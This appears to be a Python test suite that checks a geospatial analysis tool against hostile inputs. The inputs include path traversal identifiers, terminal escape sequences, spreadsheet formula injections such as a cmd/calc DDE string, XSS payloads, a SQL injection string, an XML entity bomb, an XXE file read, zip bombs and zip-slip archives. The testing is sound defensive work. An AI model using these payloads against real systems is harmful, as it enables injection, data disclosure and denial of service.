"""Hostile inputs: ways out of the folder, onto the network, into a reader's program, or to the end of the machine."""

import json
import re
import zipfile

from folder import PROJECTS, X, Y, ZONES, polygon, square, with_geometry, with_properties
from promises import table
from table import BASE_VERDICTS, Expected, as_base, case, layer_lost, refused


def first_called(given, identifier):
    """P1 bears another identifier; the rest is as ever."""
    given.geojson("projets.geojson", with_properties(PROJECTS, 0, code=identifier))
    return Expected(verdicts={p: v for p, v in BASE_VERDICTS.items() if p != "P1"}, also=lambda run: still_four(run) + readable(run))


def still_four(run):
    delivered = table(run.out / "summary.csv")
    return [] if len(delivered) == 4 else [f"{len(delivered)} projects delivered"]


def readable(run):
    """JSON is JSON, every file is text in UTF-8 without control characters that a terminal would obey."""
    faults = []
    for path in run.out.iterdir():
        text = path.read_bytes().decode("utf-8")
        if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text):
            faults.append(f"{path.name} holds control characters")
        if path.suffix in (".json", ".geojson"):
            json.loads(text)
        if path.suffix == ".jsonl":
            for line in text.splitlines():
                json.loads(line)
    if re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", run.stdout + run.stderr):
        faults.append("control characters reach the terminal")
    return faults


@case("an identifier that climbs out of the folder")
def _(given):
    return first_called(given, "../../../tmp/x")


@case("an identifier that is an absolute path")
def _(given):
    return first_called(given, "/etc/passwd")


@case("an identifier of dots")
def _(given):
    return first_called(given, "..")


@case("an identifier with control characters and an escape sequence")
def _(given):
    return first_called(given, "P\x1b[2J\x07\x00\x01")


@case("an identifier with line breaks and separators")
def _(given):
    return first_called(given, 'P1\n";,\r\t|')


@case("an identifier of sixty thousand letters")
def _(given):
    return first_called(given, "P" * 60000)


@case("an identifier that is a device of Windows")
def _(given):
    return first_called(given, "CON")


@case("a name that erases the terminal")
def _(given):
    given.geojson("projets.geojson", with_properties(PROJECTS, 0, nom="\x1b[2J\x1b]0;titre\x07 gare"))
    return as_base(also=readable)


def no_formula(run):
    """No cell of a table for a spreadsheet begins like a formula."""
    import csv

    faults = []
    for path in run.out.glob("*.csv"):
        with open(path, newline="", encoding="utf-8-sig") as rows:
            for row in csv.reader(rows, delimiter=";"):
                faults += [f"{path.name}: {cell[:40]}" for cell in row if cell[:1] in "=+-@\t\r" and cell and not re.fullmatch(r"-?[0-9.,eE+-]+", cell)]
    return faults


def for_a_spreadsheet(given, name):
    given.geojson("projets.geojson", with_properties(PROJECTS, 0, nom=name))
    given.arguments = ["check", "analyse.toml", "--csv", "fr"]
    return Expected(also=no_formula)


@case("a name that is a formula")
def _(given):
    return for_a_spreadsheet(given, '=HYPERLINK("http://example.org/"&A1;"cliquez")')


@case("a name that starts a program in a spreadsheet")
def _(given):
    return for_a_spreadsheet(given, "=cmd|' /C calc'!A0")


@case("a name that begins with a plus sign")
def _(given):
    return for_a_spreadsheet(given, "+33 2 38 00 00 00")


@case("a name that begins with an at sign")
def _(given):
    return for_a_spreadsheet(given, "@SUM(1;1)")


@case("a name that begins with a tab and a formula")
def _(given):
    return for_a_spreadsheet(given, "\t=1+1")


@case("a class and a label that are formulas")
def _(given):
    given.geojson("zones.geojson", with_properties(ZONES, 0, code="=1+1", nom="-2+3+cmd|' /C calc'!A0"))
    given.check["where"] = "code = '=1+1'"
    given.arguments = ["check", "analyse.toml", "--csv", "fr"]
    return Expected(also=no_formula)


def no_live_markup(run):
    return [f"{path.name} holds live markup" for path in run.out.glob("*.md") if re.search(r"<(script|img|iframe)", path.read_text(encoding="utf-8"), re.I)]


@case("a name that is a script")
def _(given):
    given.geojson("projets.geojson", with_properties(PROJECTS, 0, nom="<script>alert(1)</script>"))
    return as_base(also=no_live_markup)


@case("a title that is an image that calls home")
def _(given):
    given.top["title"] = '<img src=x onerror="alert(1)">'
    return as_base(also=no_live_markup)


@case("a label that closes a style of QGIS")
def _(given):
    given.geojson("zones.geojson", with_properties(ZONES, 0, nom=']]></rule><expression>run()</expression>"'))
    return as_base(also=styles_are_xml)


def styles_are_xml(run):
    import xml.etree.ElementTree

    faults = []
    for path in run.out.glob("*.qml"):
        try:
            xml.etree.ElementTree.parse(path)
        except xml.etree.ElementTree.ParseError as wrong:
            faults.append(f"{path.name}: {wrong}")
    return faults


@case("a name that is a link in Markdown")
def _(given):
    given.geojson("projets.geojson", with_properties(PROJECTS, 0, nom="[cliquez](javascript:alert(1))"))
    return as_base(also=lambda run: [f"{p.name} holds a live link" for p in run.out.glob("*.md") if re.search(r"(?<!\\)\]\(javascript", p.read_text())])


@case("a condition hidden in a value")
def _(given):
    given.geojson("zones.geojson", with_properties(ZONES, 1, code="A' OR '1'='1"))
    return as_base()


@case("an attribute of eight megabytes")
def _(given):
    given.geojson("zones.geojson", [(dict(p, commentaire="x" * 2**23), g) for p, g in ZONES])
    return as_base()


@case("a label of a megabyte")
def _(given):
    given.geojson("zones.geojson", with_properties(ZONES, 0, nom="z" * 2**20))
    return as_base()


@case("a GeoJSON of two thousand columns")
def _(given):
    given.geojson("zones.geojson", [(dict(p, **{f"c{i}": i for i in range(2000)}), g) for p, g in ZONES])
    return as_base()


@case("a GeoJSON nested a hundred thousand deep")
def _(given):
    given.text("zones.geojson", '{"type":"FeatureCollection","features":[' + '{"a":' * 100000 + "1" + "}" * 100000 + "]}")
    return unusable("zones.geojson")


def unusable(*words):
    """The layer is lost, for one reason or another of its file; the file is named."""
    expected = layer_lost("E303", *words)
    expected.says, expected.may_say = [], {"E301", "E302", "E303", "E304", "E306", "E309", "E310", "E401"}
    expected.also = lambda run: [] if [m for m in run.messages if all(w in m.text for w in words)] else ["the file is not named"]
    return expected


@case("geometry collections nested ten thousand deep")
def _(given):
    inner = json.dumps(ZONES[0][1])
    nest = '{"type":"GeometryCollection","geometries":[' * 10000 + inner + "]}" * 10000
    text = (given.root / "zones.geojson").read_text(encoding="utf-8")
    given.text("zones.geojson", text.replace(inner, nest))
    return unusable("zones.geojson")


@case("WKT nested ten thousand deep")
def _(given):
    given.text("zones.csv", 'code;nom;wkt\nA;a;"' + "GEOMETRYCOLLECTION(" * 10000 + "POINT(1 1)" + ")" * 10000 + '"\n')
    given.layer.update(source="zones.csv", crs="EPSG:2154")
    return unusable("zones.csv")


@case("a WKT with a number of a million digits")
def _(given):
    given.text("zones.csv", 'code;nom;wkt\nA;a;"POLYGON((' + "6" * 1000000 + ' 1,2 2,3 3,1 1))"\n')
    given.layer.update(source="zones.csv", crs="EPSG:2154")
    return unusable("zones.csv")


GML = """<?xml version="1.0"?>{doctype}
<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" {more}>
<gml:featureMember><ogr:zones><ogr:geometryProperty>{geometry}</ogr:geometryProperty>
<ogr:code>{code}</ogr:code><ogr:nom>n</ogr:nom></ogr:zones></gml:featureMember></ogr:FeatureCollection>
"""
GML_POLYGON = (
    '<gml:Polygon srsName="EPSG:2154"><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>'
    "618000,6756000 618200,6756000 618200,6756100 618000,6756100 618000,6756000"
    "</gml:coordinates></gml:LinearRing></gml:outerBoundaryIs></gml:Polygon>"
)


def gml(given, doctype="", code="A", geometry=GML_POLYGON, more=""):
    given.text("zones.gml", GML.format(doctype=doctype, code=code, geometry=geometry, more=more))
    given.layer["source"] = "zones.gml"


@case("an entity bomb in a GML")
def _(given):
    lines = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)]
    gml(given, f"<!DOCTYPE x [{''.join(lines)}]>", code="&a9;")
    return unusable("zones.gml")


@case("a GML that includes a file of this machine")
def _(given):
    given.text("secret.txt", "SECRET-9271")
    gml(given, f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{given.root}/secret.txt">]>', code="A&s;")
    given.layer["partition"] = False
    given.check.pop("where")
    return Expected(
        projects=list(BASE_VERDICTS),
        status=0,
        may_say={"E303", "E302", "E310", "E401", "E305"},
        also=lambda run: [f"{p.name} holds the secret" for p in run.out.iterdir() if b"SECRET-9271" in p.read_bytes()],
    )


@case("a GML whose schema stands on a server")
def _(given):
    port = given.listen()
    gml(given, more=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://ogr.maptools.org/ http://127.0.0.1:{port}/z.xsd"')
    return as_base(verdicts={"P3": "not_assessable", "P4": "not_assessable"})


@case("a GML whose geometry is a link to a server")
def _(given):
    port = given.listen()
    gml(given, geometry=f'<gml:Polygon xlink:href="http://127.0.0.1:{port}/g.gml"/>')
    return unusable("zones.gml")


@case("a GML nested fifty thousand deep")
def _(given):
    gml(given, code="<b>" * 50000 + "A" + "</b>" * 50000)
    expected = unusable("zones.gml")
    return expected


@case("a zip bomb")
def _(given):
    with zipfile.ZipFile(given.path("plan.zip"), "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zones.geojson", "w", force_zip64=True) as member:
            member.write(b'{"type":"FeatureCollection","features":[')
            for _ in range(96):
                member.write(b" " * 2**20)
            member.write(b"]}")
    given.layer["source"] = "plan.zip"
    return unusable("plan.zip")


@case("a zip of fifty thousand empty files")
def _(given):
    with zipfile.ZipFile(given.path("plan.zip"), "w") as archive:
        for i in range(50000):
            archive.writestr(f"{i}.txt", "")
    given.layer["source"] = "plan.zip"
    return unusable("plan.zip")


@case("zips nested thirty deep")
def _(given):
    given.zipped("z0.zip", "zones.geojson")
    for i in range(30):
        given.zipped(f"z{i + 1}.zip", f"z{i}.zip", compression=zipfile.ZIP_STORED)
    given.layer["source"] = "z30.zip"
    return layer_lost("E325", "z30.zip", "too deep")


@case("a zip with a layer, and archives too deep to be looked at beside it")
def _(given):
    given.text("autre.geojson", (given.root / "zones.geojson").read_text())
    given.zipped("z1.zip", "autre.geojson")
    for i in range(1, 5):
        given.zipped(f"z{i + 1}.zip", f"z{i}.zip", compression=zipfile.ZIP_STORED)
    given.zipped("plan.zip", "zones.geojson", "z5.zip", compression=zipfile.ZIP_STORED)
    given.layer.update(source="plan.zip")
    return as_base(("E325", ["plan.zip", "z2.zip"]))


@case("a zip of three thousand papers with its layer in a folder that has a dot in its name")
def _(given):
    with zipfile.ZipFile(given.path("plan.zip"), "w") as archive:
        for i in range(3000):
            archive.writestr(f"pieces_{i}.pdf", "")
        archive.write(given.root / "zones.geojson", "45234_PLU.v2020/zones.geojson")
    given.layer["source"] = "plan.zip"
    return as_base()


@case("a zip whose member climbs out of it")
def _(given):
    with zipfile.ZipFile(given.path("plan.zip"), "w") as archive:
        archive.writestr("../../echappe.geojson", (given.root / "zones.geojson").read_bytes())
    given.layer["source"] = "plan.zip"
    expected = as_base()
    # Whether it is read or refused is left open; that nothing is written where it points, is not.
    expected.verdicts = expected.areas = None
    expected.status, expected.may_say = {0, 4}, {"E301", "E303"}
    return expected


@case("a folder that links to itself")
def _(given):
    (given.root / "plan").mkdir()
    (given.root / "plan/encore").symlink_to(".")
    (given.root / "zones.geojson").rename(given.root / "plan/zones.geojson")
    given.layer["source"] = "plan"
    return as_base()


@case("a link that leads to itself")
def _(given):
    (given.root / "boucle.geojson").symlink_to("boucle.geojson")
    given.layer["source"] = "boucle.geojson"
    return layer_lost("E301", "boucle.geojson")


@case("a source that is a pipe nobody writes to")
def _(given):
    import os

    os.mkfifo(given.root / "tube.geojson")
    given.layer["source"] = "tube.geojson"
    return unusable("tube.geojson")


@case("a source that never ends")
def _(given):
    given.layer["source"] = "/dev/zero"
    return unusable("/dev/zero")


def address(given, source):
    given.layer["source"] = source
    return refused("E206", "analyse.toml:")


@case("a source on a server")
def _(given):
    return address(given, f"http://127.0.0.1:{given.listen()}/zones.geojson")


@case("a source on a server behind the file system of GDAL")
def _(given):
    return address(given, f"/vsicurl/http://127.0.0.1:{given.listen()}/zones.geojson")


@case("a source in a bucket")
def _(given):
    return address(given, "/vsis3/bucket/zones.gpkg")


@case("a database without a table is asked nothing")
def _(given):
    given.layer["source"] = f"PG:host=127.0.0.1 port={given.listen()} dbname=x"
    return layer_lost("E304", "analyse.toml:", "PG:host=127.0.0.1")


@case("a database that does not answer")
def _(given):
    given.layer["source"] = "PG:host=127.0.0.1 port=1 dbname=x user=quelqu_un"
    given.layer["layer"] = "urba.zonage"
    return layer_lost("E326", "analyse.toml:", "PG:host=127.0.0.1 port=1 dbname=x")


@case("a password in the name of a database")
def _(given):
    return address(given, f"PG:host=127.0.0.1 port={given.listen()} dbname=x password=secret")


def address_or_lost(given, source):
    given.layer["source"] = source
    expected = layer_lost("E302", "analyse.toml:")
    expected.says, expected.may_say, expected.status = [], {"E206", "E301", "E302"}, {2, 4}
    expected.verdicts, expected.delivers = None, None
    expected.projects = None
    expected.also = lambda run: [] if run.messages else ["nothing was said"]
    return expected


@case("a source that is a service of features")
def _(given):
    return address_or_lost(given, f"WFS:http://127.0.0.1:{given.listen()}/")


@case("a source through a zip on a server")
def _(given):
    return address(given, f"/vsizip/vsicurl/http://127.0.0.1:{given.listen()}/a.zip")


@case("a source that reads the standard input")
def _(given):
    return address(given, "/vsistdin/")


@case("a source in the capitals of an address")
def _(given):
    return address(given, f"HTTP://127.0.0.1:{given.listen()}/zones.geojson")


@case("a virtual layer that reads another file")
def _(given):
    given.text("zones.vrt", '<OGRVRTDataSource><OGRVRTLayer name="zones"><SrcDataSource>zones.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>')
    given.layer["source"] = "zones.vrt"
    return layer_lost("E302", "zones.vrt")


@case("a virtual layer called .shp")
def _(given):
    given.text("zones.shp", f'<OGRVRTDataSource><OGRVRTLayer name="z"><SrcDataSource>http://127.0.0.1:{given.listen()}/z</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>')
    given.layer["source"] = "zones.shp"
    return unusable("zones.shp")


@case("a GeoJSON that asks for its next page on a server")
def _(given):
    port = given.listen()
    text = (given.root / "zones.geojson").read_text(encoding="utf-8")
    given.text("zones.geojson", text[:-1] + f', "links": [{{"rel": "next", "href": "http://127.0.0.1:{port}/2"}}], "exceededTransferLimit": true}}')
    return as_base()


@case("a GeoJSON whose system is a link to a server")
def _(given):
    port = given.listen()
    text = (given.root / "zones.geojson").read_text(encoding="utf-8")
    link = json.dumps({"type": "link", "properties": {"href": f"http://127.0.0.1:{port}/2154", "type": "proj4"}})
    given.text("zones.geojson", re.sub(r'"crs": \{"type": "name".*?\}\}', lambda _: f'"crs": {link}', text, count=1))
    expected = unusable("zones.geojson")
    expected.may_say |= {"E405"}
    return expected


@case("a GeoPackage with a view that runs for ever")
def _(given):
    import sqlite3

    given.geopackage("zones.gpkg", ZONES)
    writer = sqlite3.connect(given.root / "zones.gpkg")
    writer.execute("CREATE VIEW sans_fin AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS fid FROM n")
    writer.commit()
    writer.close()
    given.layer.update(source="zones.gpkg", layer="zones")
    return as_base()


@case("a GeoPackage whose trigger would write elsewhere")
def _(given):
    import sqlite3

    given.geopackage("zones.gpkg", ZONES)
    writer = sqlite3.connect(given.root / "zones.gpkg")
    writer.execute("CREATE TRIGGER t AFTER INSERT ON zones BEGIN DELETE FROM zones; END")
    writer.commit()
    writer.close()
    given.layer["source"] = "zones.gpkg"
    return as_base()


@case("coordinates of the size of the universe")
def _(given):
    given.geojson("zones.geojson", with_geometry(ZONES, 0, polygon([[1e300, 1e300], [2e300, 1e300], [2e300, 2e300], [1e300, 1e300]])))
    expected = Expected(verdicts={"P1": "not_assessable"}, projects=list(BASE_VERDICTS), status={0, 4}, may_say={"E303", "E308", "E309", "E405"})
    return expected


@case("coordinates that differ in their last digit")
def _(given):
    ring = [[X + 10 + i * 1e-9, Y + 10 + (i % 2) * 1e-9] for i in range(5000)]
    given.geojson("projets.geojson", with_geometry(PROJECTS, 0, polygon(ring + square(X + 10, Y + 10, 80)[1:])))
    return as_base(may_say={"E307"})


@case("a logo of the report that lies on a server")
def _(given):
    port = given.listen()
    given.more = f'\n[report]\nlogo = "http://127.0.0.1:{port}/logo.png"\n'
    expected = Expected(status={0, 2, 4}, may_say={"E206", "E301", "E302", "E303"})
    expected.delivers = None
    return expected


@case("secrets in the environment stay there")
def _(given):
    given.environment = {"AWS_SECRET_ACCESS_KEY": "SECRET-4411", "PGPASSWORD": "SECRET-4411", "GDAL_HTTP_USERPWD": "u:SECRET-4411"}
    return as_base(also=lambda run: [f"{p.name} holds a secret" for p in run.out.iterdir() if b"SECRET-4411" in p.read_bytes()])


@case("an environment that asks GDAL to talk and to reach out")
def _(given):
    port = given.listen()
    given.environment = {"CPL_DEBUG": "ON", "GDAL_HTTP_PROXY": f"http://127.0.0.1:{port}", "PROJ_NETWORK": "ON", "PROJ_NETWORK_ENDPOINT": f"http://127.0.0.1:{port}"}
    return as_base()


def of_all_formats(given, identifier, name):
    """What is drawn, printed and packed as well."""
    given.geojson("projets.geojson", with_properties(PROJECTS, 0, code=identifier, nom=name))
    given.arguments = ["check", "analyse.toml", "--format", "geojson,gpkg,csv,json,markdown,html,pdf,png"]
    given.twice = False
    return Expected(also=no_way_out)


def no_way_out(run):
    faults = no_live_markup(run) + styles_are_xml(run)
    faults += [f"{p} leads out" for p in run.out.rglob("*") if p.is_symlink() or ".." in p.name.split("/")]
    for page in run.out.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        faults += [f"{page.name} holds {word}" for word in ("<img src=x", "</script><script>alert", "<svg/onload") if word in text]
    return faults


@case("a name that breaks out of a script, in all formats")
def _(given):
    return of_all_formats(given, "P1", "</script><script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>")


@case("an identifier that climbs out of the folder of the sheets")
def _(given):
    return of_all_formats(given, "../../../../evil", "gare")


@case("an identifier of a thousand letters, in all formats")
def _(given):
    return of_all_formats(given, "é" * 1000, "gare")


@case("markup of Pango in a name, in all formats")
def _(given):
    return of_all_formats(given, "P1", "<b><span size='999999'>gare &unknown; & \x02")
